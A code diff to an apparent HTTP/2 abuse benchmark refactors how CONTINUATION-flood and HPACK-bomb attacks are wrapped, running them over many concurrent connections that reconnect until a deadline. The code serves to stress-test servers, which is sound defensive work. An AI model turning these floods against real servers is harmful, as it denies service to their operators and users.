@@ -6,6 +6,7 @@ import asyncio
 import time
 from collections.abc import AsyncGenerator, Awaitable, Callable
 from contextlib import suppress
+from functools import partial
 
 from bench.abuse.attack import Attack
 from bench.abuse.raw_http2 import CONTINUATION, END_HEADERS, HEADERS, Connection, header, request_headers
@@ -48,22 +49,21 @@ async def _bomb(connection: Connection, address: str, until: float) -> None:
         await asyncio.sleep(0)
 
 
-def _attack(flood: Callable[[Connection, str, float], Awaitable[None]]) -> Attack:
-    async def run(address: str, seconds: float) -> AsyncGenerator[None]:
-        yield
-        until = time.monotonic() + seconds
+async def _run(
+    flood: Callable[[Connection, str, float], Awaitable[None]], address: str, seconds: float
+) -> AsyncGenerator[None]:
+    yield
+    until = time.monotonic() + seconds
 
-        async def repeat() -> None:
-            while time.monotonic() < until:  # as often as the server hangs up
+    async def repeat() -> None:
+        while time.monotonic() < until:  # as often as the server hangs up
+            with suppress(ConnectionError):
                 async with Connection.open(address) as connection:
-                    with suppress(ConnectionError):
-                        await flood(connection, address, until)
+                    await flood(connection, address, until)
 
-        await asyncio.gather(*(repeat() for _ in range(_CONNECTIONS)))
-        yield
-
-    return Attack(run)
+    await asyncio.gather(*(repeat() for _ in range(_CONNECTIONS)))
+    yield
 
 
-CONTINUATIONS = _attack(_continue)
-HPACK_BOMBS = _attack(_bomb)
+CONTINUATIONS = Attack(partial(_run, _continue))
+HPACK_BOMBS = Attack(partial(_run, _bomb))
